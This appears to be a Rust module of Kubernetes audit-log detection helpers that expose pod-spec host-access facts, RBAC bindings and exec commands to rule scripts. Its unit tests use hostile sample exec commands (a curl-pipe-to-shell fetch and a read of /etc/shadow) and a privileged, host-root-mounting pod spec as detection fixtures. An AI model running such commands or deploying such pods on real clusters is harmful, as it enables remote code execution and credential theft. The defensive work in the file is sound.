//! Host helpers over the request object: pod specs (bare or in workload templates), RBAC subjects and rules, exec commands and JSON pointers, answered from the typed view when it reads the object and from the full object otherwise.

use rhai::{Dynamic, Engine};
use serde_json::Value;

use std::sync::Arc;

use super::host::{json_dyn, opt, strings, Ev, Lists};
use super::objects::{RequestView, Spec};

/// The pod spec inside a request object: a Pod, a workload's template, or a CronJob's job template.
pub fn pod_spec(obj: &Value) -> Option<&Value> {
    let spec = obj.get("spec")?;
    if spec.get("containers").is_some() {
        return Some(spec);
    }
    spec.pointer("/template/spec")
        .or_else(|| spec.pointer("/jobTemplate/spec/template/spec"))
}

fn containers(obj: &Value) -> Vec<&Value> {
    let Some(spec) = pod_spec(obj) else {
        return Vec::new();
    };
    ["initContainers", "containers", "ephemeralContainers"]
        .iter()
        .filter_map(|k| spec.get(*k).and_then(Value::as_array))
        .flatten()
        .collect()
}

/// The command of an exec request, decoded from the requestURI's `command=` parameters.
pub fn exec_command(uri: &str) -> String {
    let query = uri.split_once('?').map_or("", |(_, q)| q);
    query
        .split('&')
        .filter_map(|kv| kv.strip_prefix("command="))
        .map(percent_decode)
        .collect::<Vec<_>>()
        .join(" ")
}

/// The command of an exec request: the requestURI's `command=` parameters, else the request
/// object's `command` (AKS and plain events may carry a `PodExecOptions`; GKE's `protoPayload.request`).
pub fn exec_command_of(e: &Ev) -> String {
    let from_uri = exec_command(&e.event().request_uri);
    if !from_uri.is_empty() {
        return from_uri;
    }
    let parsed;
    let command = match e.view() {
        Some(v) => {
            parsed = v
                .command
                .as_ref()
                .and_then(|c| serde_json::from_str::<Value>(c.get()).ok());
            parsed.as_ref()
        }
        None => e.request().and_then(|r| r.get("command")),
    };
    match command {
        Some(Value::Array(parts)) => parts
            .iter()
            .filter_map(Value::as_str)
            .collect::<Vec<_>>()
            .join(" "),
        Some(Value::String(s)) => s.clone(),
        _ => String::new(),
    }
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'+' => out.push(b' '),
            b'%' if i + 2 < b.len() => {
                match u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("zz"), 16)
                {
                    Ok(v) => {
                        out.push(v);
                        i += 2;
                    }
                    Err(_) => out.push(b'%'),
                }
            }
            c => out.push(c),
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Answers from the typed view when the object has one, else from the full object.
fn answer<T>(
    e: &Ev,
    typed: impl FnOnce(&RequestView) -> T,
    full: impl FnOnce(Option<&Value>) -> T,
) -> T {
    match e.view() {
        Some(v) => typed(v),
        None => full(e.request()),
    }
}

/// Parses a raw part of the view into the script's value (`()` when absent).
fn raw_dyn(raw: Option<&serde_json::value::RawValue>) -> Dynamic {
    json_dyn(
        raw.and_then(|r| serde_json::from_str::<Value>(r.get()).ok())
            .as_ref(),
    )
}

/// The value at `rest` (a JSON pointer) of `root`.
fn at(root: Option<&Value>, rest: &str) -> Dynamic {
    json_dyn(root.and_then(|v| {
        if rest.is_empty() {
            Some(v)
        } else {
            v.pointer(rest)
        }
    }))
}

/// What in a pod spec can give host access, read from the typed view or the full object.
#[derive(Default)]
struct PodFacts<'a> {
    images: Vec<&'a str>,
    privileged: bool,
    capabilities: Vec<&'a str>,
    namespaces: Vec<&'static str>,
    host_paths: Vec<&'a str>,
}

impl<'a> PodFacts<'a> {
    fn of_view(spec: &'a Spec) -> Self {
        Self {
            images: spec
                .all_containers()
                .filter_map(|c| c.image.as_deref())
                .collect(),
            privileged: spec.all_containers().any(|c| c.privileged()),
            capabilities: spec
                .all_containers()
                .flat_map(|c| c.added_capabilities().iter().map(String::as_str))
                .collect(),
            namespaces: spec.host_namespaces(),
            host_paths: spec.host_paths().collect(),
        }
    }

    /// The same facts with the full object's leniency (a mistyped field is ignored, not fatal).
    fn of_value(obj: &'a Value) -> Self {
        let Some(spec) = pod_spec(obj) else {
            return Self::default();
        };
        let cs = containers(obj);
        Self {
            images: cs.iter().filter_map(|c| c["image"].as_str()).collect(),
            privileged: cs.iter().any(|c| {
                c.pointer("/securityContext/privileged")
                    .and_then(Value::as_bool)
                    == Some(true)
            }),
            capabilities: cs
                .iter()
                .filter_map(|c| c.pointer("/securityContext/capabilities/add")?.as_array())
                .flatten()
                .filter_map(Value::as_str)
                .collect(),
            namespaces: [
                ("hostNetwork", "network"),
                ("hostPID", "pid"),
                ("hostIPC", "ipc"),
            ]
            .into_iter()
            .filter(|(k, _)| spec[*k].as_bool() == Some(true))
            .map(|(_, n)| n)
            .collect(),
            host_paths: spec["volumes"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|v| v.pointer("/hostPath/path")?.as_str())
                .collect(),
        }
    }

    /// `host_access(e)`: `privileged`, `cap X` for each added capability in `dangerous_capabilities`
    /// (without `CAP_`), `hostnetwork`/`hostpid`/`hostipc`, and `hostPath P` for each hostPath at or
    /// under an entry of `sensitive_host_paths`.
    fn findings(&self, lists: &Lists, cluster: &str) -> Vec<String> {
        let mut out = Vec::new();
        if self.privileged {
            out.push("privileged".to_owned());
        }
        for cap in &self.capabilities {
            let cap = cap.strip_prefix("CAP_").unwrap_or(cap);
            if lists.contains(cluster, "dangerous_capabilities", cap) {
                out.push(format!("cap {cap}"));
            }
        }
        out.extend(self.namespaces.iter().map(|n| format!("host{n}")));
        for p in &self.host_paths {
            let path = if p.chars().count() > 1 {
                p.strip_suffix('/').unwrap_or(p)
            } else {
                p
            };
            let sensitive = lists.entries(cluster, "sensitive_host_paths").any(|r| {
                path == r
                    || (r != "/"
                        && path
                            .strip_prefix(r.as_str())
                            .is_some_and(|rest| rest.starts_with('/')))
            });
            if sensitive {
                out.push(format!("hostPath {p}"));
            }
        }
        out
    }
}

/// The pod-spec facts of the event's request object, from the typed view when it reads the
/// object and from the full object otherwise.
fn facts(e: &Ev) -> PodFacts<'_> {
    match e.view() {
        Some(v) => v.pod_spec().map(PodFacts::of_view).unwrap_or_default(),
        None => e.request().map(PodFacts::of_value).unwrap_or_default(),
    }
}

/// Registers `pointer` and the helpers over pod specs, bindings, roles and exec requests.
pub fn register(engine: &mut Engine, lists: Arc<Lists>) {
    // One native pass over the pod spec instead of a script loop per finding; from the full
    // object when the typed view cannot read it (the same findings, parsed the slow way).
    engine.register_fn("host_access", move |e: &mut Ev| -> rhai::Array {
        let facts = facts(e);
        let findings = super::state_api::with_cluster(|cluster| facts.findings(&lists, cluster));
        findings.into_iter().map(Dynamic::from).collect()
    });
    engine.register_fn("pointer", |e: &mut Ev, ptr: &str| -> Dynamic {
        if let Some(rest) = ptr.strip_prefix("/responseObject") {
            return at(e.response(), rest);
        }
        let rest = ptr.strip_prefix("/requestObject").unwrap_or(ptr);
        // The metadata fields most playbooks ask for come from the typed view,
        // unless some helper has parsed the whole object already.
        if e.request_if_parsed().is_none() {
            if let Some(field) = e.view().and_then(|v| v.metadata_field(rest)) {
                return opt(field);
            }
        }
        at(e.request(), rest)
    });
    engine.register_fn("container_images", |e: &mut Ev| strings(facts(e).images));
    engine.register_fn("has_privileged_container", |e: &mut Ev| facts(e).privileged);
    engine.register_fn("host_path_mounts", |e: &mut Ev| {
        strings(facts(e).host_paths)
    });
    engine.register_fn("added_capabilities", |e: &mut Ev| {
        strings(facts(e).capabilities)
    });
    engine.register_fn("host_namespaces", |e: &mut Ev| strings(facts(e).namespaces));
    engine.register_fn("root_containers", |e: &mut Ev| {
        answer(
            e,
            |v| {
                v.pod_spec()
                    .map(|s| s.root_containers())
                    .unwrap_or_default()
            },
            |r| {
                r.map(super::host_detect::root_containers)
                    .unwrap_or_default()
            },
        )
        .into_iter()
        .map(Dynamic::from)
        .collect::<rhai::Array>()
    });
    engine.register_fn("binding_subjects", |e: &mut Ev| {
        answer(
            e,
            |v| raw_dyn(v.subjects.as_deref()),
            |r| json_dyn(r.and_then(|r| r.get("subjects"))),
        )
    });
    engine.register_fn("binding_role", |e: &mut Ev| {
        answer(
            e,
            |v| opt(v.role_ref.as_ref().and_then(|r| r.name.as_deref())),
            |r| {
                opt(r
                    .and_then(|r| r.pointer("/roleRef/name"))
                    .and_then(Value::as_str))
            },
        )
    });
    engine.register_fn("role_rules", |e: &mut Ev| {
        answer(
            e,
            |v| raw_dyn(v.rules.as_deref()),
            |r| json_dyn(r.and_then(|r| r.get("rules"))),
        )
    });
    engine.register_fn("exec_command", |e: &mut Ev| exec_command_of(e));
    // `ka.req.pod.containers.image.repository`: the repositories of a Pod's `spec.containers` (not init or ephemeral ones, as in Falco).
    engine.register_fn("falco_container_repos", |e: &mut Ev| -> rhai::Array {
        let repo = |i: &str| Dynamic::from(super::host_falco::image_repository(i).to_owned());
        answer(
            e,
            |v| {
                v.own_containers()
                    .iter()
                    .filter_map(|c| c.image.as_deref())
                    .map(repo)
                    .collect()
            },
            |r| {
                r.and_then(|r| r.pointer("/spec/containers"))
                    .and_then(Value::as_array)
                    .map(|cs| {
                        cs.iter()
                            .filter_map(|c| c["image"].as_str())
                            .map(repo)
                            .collect()
                    })
                    .unwrap_or_default()
            },
        )
    });
}

#[cfg(test)]
mod tests {
    use super::super::host::Ev;
    use super::*;

    #[test]
    fn decodes_exec_commands_from_the_request_uri() {
        let uri = "/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fy+%7C+sh&container=etcd&stdin=true";
        assert_eq!(exec_command(uri), "sh -c curl http://x/y | sh");
        assert_eq!(exec_command("/api/v1/pods"), "");
    }

    fn pod_event(pod: serde_json::Value) -> Ev {
        let line = serde_json::json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "x",
            "stage": "ResponseComplete", "verb": "create", "requestURI": "/api/v1/namespaces/web/pods",
            "user": {"username": "mallory@example.com"},
            "objectRef": {"resource": "pods", "namespace": "web"},
            "requestObject": pod
        })
        .to_string();
        Ev::new(
            crate::event::decode_record(line.as_bytes(), &Default::default())
                .events
                .remove(0),
        )
    }

    #[test]
    fn a_null_or_mistyped_field_hides_nothing_from_the_pod_helpers() {
        let spec = |extra: serde_json::Value| {
            let mut s = serde_json::json!({
                "hostPID": true,
                "containers": [{"name": "x", "image": "busybox",
                    "securityContext": {"privileged": true, "capabilities": {"add": ["SYS_ADMIN"]}}}],
                "volumes": [{"name": "root", "hostPath": {"path": "/"}}]
            });
            s.as_object_mut()
                .unwrap()
                .extend(extra.as_object().unwrap().clone());
            serde_json::json!({"kind": "Pod", "metadata": {"name": "p"}, "spec": s})
        };
        // The typed view reads the clean pod; a null hostIPC or a string hostNetwork make it
        // give up, and the full object answers the same.
        for extra in [
            serde_json::json!({}),
            serde_json::json!({"hostIPC": null}),
            serde_json::json!({"hostNetwork": "yes"}),
        ] {
            let e = pod_event(spec(extra.clone()));
            assert_eq!(e.view().is_some(), extra.as_object().unwrap().is_empty());
            let f = facts(&e);
            assert!(f.privileged, "{extra}");
            assert_eq!(f.images, ["busybox"], "{extra}");
            assert_eq!(f.capabilities, ["SYS_ADMIN"], "{extra}");
            assert_eq!(f.namespaces, ["pid"], "{extra}");
            assert_eq!(f.host_paths, ["/"], "{extra}");
        }
    }

    #[test]
    fn falls_back_to_the_request_objects_command() {
        let line = serde_json::json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "x",
            "stage": "ResponseComplete", "verb": "create",
            "requestURI": "/api/v1/namespaces/web/pods/api-0/exec",
            "user": {"username": "alice@example.com"},
            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "api-0"},
            "requestObject": {"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "cat /etc/shadow"], "stdin": true}
        })
        .to_string();
        let ev = crate::event::decode_record(line.as_bytes(), &Default::default())
            .events
            .remove(0);
        assert_eq!(exec_command_of(&Ev::new(ev)), "sh -c cat /etc/shadow");
    }

    #[test]
    fn finds_pod_specs_in_pods_workloads_and_cronjobs() {
        let pod = serde_json::json!({"spec": {"containers": [{"image": "a"}]}});
        let dep = serde_json::json!({"spec": {"template": {"spec": {"containers": [{"image": "b"}], "initContainers": [{"image": "i"}]}}}});
        let cron = serde_json::json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"image": "c"}]}}}}}});
        let images = |v: &Value| {
            containers(v)
                .iter()
                .map(|c| c["image"].as_str().unwrap().to_owned())
                .collect::<Vec<_>>()
        };
        assert_eq!(images(&pod), ["a"]);
        assert_eq!(images(&dep), ["i", "b"]);
        assert_eq!(images(&cron), ["c"]);
    }
}
